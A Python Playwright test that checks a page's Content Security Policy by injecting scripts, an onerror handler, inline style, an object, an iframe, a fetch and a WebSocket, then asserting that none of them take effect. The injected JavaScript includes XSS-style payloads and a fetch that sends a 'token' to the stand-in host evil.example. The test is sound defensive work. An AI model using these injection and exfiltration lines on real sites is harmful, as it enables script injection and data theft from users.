"""The page's policy in a real browser: what somebody smuggles into the page does nothing there."""

from playwright.sync_api import expect

from tests.browser.screens import Screens

SMUGGLE = """() => new Promise((done) => {
  const broken = new Set();
  document.addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "window.smuggled = true";
  document.body.append(script);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.example/x.js";
  document.body.append(foreign);
  const nest = document.createElement("div");
  nest.innerHTML = '<img src="data:," onerror="window.smuggled = true"><b style="color: red">x</b>'
    + '<object data="/icon.svg"></object><iframe src="https://evil.example/"></iframe>';
  document.body.append(nest);
  fetch("https://evil.example/?token").catch(() => {});
  try { new WebSocket("wss://evil.example/"); } catch {}
  setTimeout(() => done({ broken: [...broken].sort(), smuggled: window.smuggled === true }), 500);
})"""


def test_what_is_smuggled_into_the_page_does_nothing(screens: Screens) -> None:
    screens.watch.forgive("Content Security Policy|content security policy|violates the following|evil.example")
    page = screens.blank()
    page.goto("/")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    found = page.evaluate(SMUGGLE)
    assert found["smuggled"] is False
    wanted = {"script-src-elem", "script-src-attr", "style-src-attr", "object-src", "connect-src"}
    assert wanted <= set(found["broken"]), found
    assert page.evaluate("document.cookie") == ""
    assert page.context.cookies() == []
    # The browser tells of requests that it did not make, too.
    screens.watch.trouble = [told for told in screens.watch.trouble if "evil.example" not in told]
